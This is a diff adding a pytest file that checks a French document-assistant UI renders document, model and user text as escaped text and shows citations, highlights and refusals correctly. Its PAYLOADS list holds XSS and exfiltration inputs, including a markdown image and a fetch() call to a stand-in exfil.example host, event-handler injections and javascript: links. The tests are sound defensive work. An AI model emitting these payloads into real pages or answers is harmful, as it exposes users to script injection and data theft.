@@ -1,0 +1,208 @@
+"""Values to HTML: what is shown, and that nothing from a document, a model or a member becomes markup."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from rag.errors import ModelError, NoStore
+from rag.types import Answer, Finished, Retrieved, Token
+from tests.browser.scripted import HOSTILE, PATH, QUOTE, ScriptedAssistant, make_pdf
+from ui.exchange import Exchange, advance, history
+from ui.strings import THIN
+from ui.view import escape, exchange_html, header_html, marks_html, notice_html, panel_html, status_html
+
+PAYLOADS = [
+    "![x](http://exfil.example/p.png?d=secret)",
+    "<img src=http://exfil.example/p.png onerror=alert(1)>",
+    "<script>fetch('http://exfil.example')</script>",
+    "[cliquez](javascript:alert(1))",
+    "https://exfil.example et www.exfil.example",
+    "</article></div><style>*{display:none}</style>",
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    "{{constructor}} ${alert(1)} `x` @children",
+    "&lt;img src=x&gt; &#60;script&#62;",
+    "**gras** _italique_ # titre",
+    "\u202egnp.exe\u2066",
+]
+
+OURS = frozenset(
+    "article div h2 h3 p span s button small br strong details summary ul li blockquote figure figcaption svg rect "
+    "img nav a".split()
+)
+
+
+class Reader(HTMLParser):
+    """Collects elements, attributes and text as a browser would."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def attributes(self, name: str) -> list[str]:
+        return [value or "" for _, attributes in self.elements for key, value in attributes.items() if key == name]
+
+
+@pytest.fixture(scope="module")
+def assistant(tmp_path_factory: pytest.TempPathFactory) -> ScriptedAssistant:
+    corpus = tmp_path_factory.mktemp("corpus")
+    return ScriptedAssistant(corpus, make_pdf(corpus / PATH), pause=0)
+
+
+def _answer(assistant: ScriptedAssistant, question: str = "Quelle épaisseur ?") -> Answer:
+    event = list(assistant.ask(question))[-1]
+    assert isinstance(event, Finished)
+    return event.answer
+
+
+def _shown(answer: Answer) -> Reader:
+    return Reader(exchange_html(Exchange(1, answer.question, "done", answer=answer), "fr"))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_text_is_shown_as_text_wherever_it_stands(assistant: ScriptedAssistant, payload: str) -> None:
+    plain = _answer(assistant)
+    page = replace(assistant.sentence.page, label=payload, source=replace(assistant.source, title=payload))
+    sentence = replace(assistant.sentence, text=payload, page=page)
+    chunk = replace(assistant.passages[0].chunk, page=page, text=payload)
+    hostile = replace(
+        plain,
+        question=payload,
+        standalone=payload + " ?",
+        model=payload,
+        claims=tuple(replace(claim, text=payload, reason=payload) for claim in plain.claims),
+        citations=tuple(replace(citation, sentence=sentence) for citation in plain.citations),
+        passages=(*plain.passages, replace(plain.passages[0], chunk=replace(chunk, sentences=()))),
+    )
+    answers = [hostile, replace(hostile, status="refused", refusal="nothing_supported")]
+    for reader, reference in zip(map(_shown, answers), [plain, replace(plain, status="refused")], strict=True):
+        names = {name for name, _ in reader.elements}
+        assert names <= OURS
+        assert not [key for _, attributes in reader.elements for key in attributes if key.startswith("on")]
+        assert all(href.startswith("/document/public/r%C3%A8gles") for href in reader.attributes("href"))
+        assert all(source.startswith("/page/public/r%C3%A8gles") for source in reader.attributes("data-src"))
+        assert reader.attributes("src") == []
+        assert len(reader.elements) >= len(_shown(reference).elements)
+    visible = "".join(c for c in payload if c not in "\u202e\u2066")
+    assert visible in _shown(hostile).text
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_hostile_draft_question_or_name_stays_text(payload: str) -> None:
+    exchange = Exchange(1, payload, "writing", draft=payload)
+    for markup in (exchange_html(exchange, "fr"), header_html(payload, "fr"), status_html(payload, None, "en")):
+        reader = Reader(markup)
+        assert {name for name, _ in reader.elements} <= {"article", "div", "h2", "p", "header", "a", "h1"}
+        assert not set("`{}[]*!") & set(markup.replace("&#", ""))
+
+
+def test_a_path_cannot_leave_its_address(assistant: ScriptedAssistant) -> None:
+    answer = _answer(assistant)
+    source = replace(assistant.source, path='a"b/../?x#y&z.pdf')
+    sentence = replace(assistant.sentence, page=replace(assistant.sentence.page, source=source))
+    reader = _shown(replace(answer, citations=(replace(answer.citations[0], sentence=sentence),)))
+    assert "/document/a%22b/../%3Fx%23y%26z.pdf#page=2" in reader.attributes("href")
+
+
+def test_an_answer_cites_by_buttons_that_name_their_page(assistant: ScriptedAssistant) -> None:
+    reader = _shown(_answer(assistant))
+    buttons = [a for name, a in reader.elements if name == "button" and a.get("class") == "cite"]
+    assert [(b["data-evidence"], b["type"]) for b in buttons] == [("e1-c1", "button")]
+    assert "page\xa02 (imprimée\xa0: ii)" in (buttons[0]["aria-label"] or "")
+    assert {"e1-c1", "e1-p1"} <= set(reader.attributes("id"))
+    assert f"«{THIN}{QUOTE}{THIN}»" in reader.text
+
+
+def test_the_highlight_is_drawn_in_points_of_the_page(assistant: ScriptedAssistant) -> None:
+    page, (x0, y0, x1, y1) = assistant.sentence.page, assistant.sentence.boxes[0]
+    reader = Reader(marks_html(page, assistant.sentence.boxes))
+    assert reader.attributes("viewbox") == [f"0 0 {page.width:.2f} {page.height:.2f}"]
+    assert [float(reader.attributes(name)[0]) for name in ("x", "y", "width", "height")] == pytest.approx(
+        [x0, y0, x1 - x0, y1 - y0], abs=0.01
+    )
+
+
+def test_an_unsupported_claim_is_struck_out_with_its_reason(assistant: ScriptedAssistant) -> None:
+    reader = _shown(_answer(assistant))
+    struck = [attributes for name, attributes in reader.elements if name == "s"]
+    assert len(struck) == 1
+    assert "aucune source ne parle de couleur" in (struck[0]["title"] or "")
+    assert "Les phrases barrées" in reader.text
+
+
+def test_a_refusal_says_so_and_names_the_nearest_pages(assistant: ScriptedAssistant) -> None:
+    reader = _shown(_answer(assistant, "Quel est le prix ?"))
+    assert "Je n'ai pas trouvé la réponse" in reader.text
+    assert reader.text.count("Règles de pose des vitrages, page\xa0") >= 2
+    assert reader.attributes("data-evidence") == ["e1-p1", "e1-p2"]
+
+
+def test_read_but_unused_passages_are_folded_away(assistant: ScriptedAssistant) -> None:
+    reader = _shown(_answer(assistant))
+    assert "Autres passages lus (1)" in reader.text
+    assert "open" not in [key for name, attributes in reader.elements if name == "details" for key in attributes]
+
+
+def test_the_status_says_who_answers() -> None:
+    assert "aucun modèle de langue" in Reader(status_html("extracts", None, "fr")).text
+    assert "Modèle\xa0: m.gguf" in Reader(status_html("m.gguf", None, "fr")).text
+    assert "se prépare" in Reader(status_html(None, None, "fr")).text
+    assert "getting ready" in Reader(status_html(None, None, "en")).text
+    error = NoStore("Rien n'est indexé : lancez make ingest.", "Nothing is indexed: run make ingest.")
+    assert "lancez make ingest" in Reader(status_html(None, error, "fr")).text
+    assert "run make ingest" in Reader(status_html(None, error, "en")).text
+
+
+def test_english_is_english_throughout(assistant: ScriptedAssistant) -> None:
+    answer = _answer(assistant)
+    reader = Reader(exchange_html(Exchange(1, "q", "done", answer=answer), "en"))
+    assert "Other passages read (1)" in reader.text
+    assert "1.2 s" in reader.text
+    assert all("?lang=en" in address for address in reader.attributes("href") + reader.attributes("data-src"))
+    assert "Touch a number" in Reader(panel_html("en")).text
+
+
+def test_an_exchange_follows_its_events() -> None:
+    exchange = advance(Exchange(1, "q"), Retrieved("q", ()))
+    assert "Lecture des passages" in exchange_html(exchange, "fr")
+    exchange = advance(advance(exchange, Token("Un ")), Token("mot"))
+    assert exchange.draft == "Un mot"
+    assert "pas encore vérifié" in exchange_html(exchange, "fr")
+    assert "n'a pas été vérifié" in Reader(exchange_html(replace(exchange, phase="stopped"), "fr")).text
+    waiting = replace(Exchange(1, "q", "searching"), elapsed=7)
+    assert f"7{' '}s" in exchange_html(waiting, "fr")
+    failed = replace(exchange, phase="failed", error=ModelError("Le modèle a échoué.", "The model failed."))
+    assert "Le modèle a échoué." in Reader(exchange_html(failed, "fr")).text
+
+
+def test_only_answered_exchanges_count_as_history(assistant: ScriptedAssistant) -> None:
+    answered = Exchange(1, "Un", "done", answer=_answer(assistant))
+    refused = Exchange(2, "Deux", "done", answer=_answer(assistant, "prix"))
+    stopped = Exchange(3, "Trois", "stopped", draft="…")
+    turns = history((answered, refused, stopped))
+    assert [(turn.role, turn.text) for turn in turns] == [("user", "Un"), ("assistant", _answer(assistant).text)]
+    assert len(history((answered,) * 9)) == 6
+
+
+def test_escape_keeps_french_and_drops_control_characters() -> None:
+    assert Reader(escape("L'été\u202f: «\xa05 €\xa0» — œuvre\x00\x1b")).text == "L'été\u202f: «\xa05 €\xa0» — œuvre"
+    assert notice_html(None, "fr") == ""
+    assert HOSTILE in Reader(escape(HOSTILE)).text
+
+
+def test_static_files_are_there() -> None:
+    static = Path(__file__).resolve().parent.parent / "ui" / "static"
+    assert {"greffier.css", "greffier.js", "greffier.svg"} <= {file.name for file in static.iterdir()}
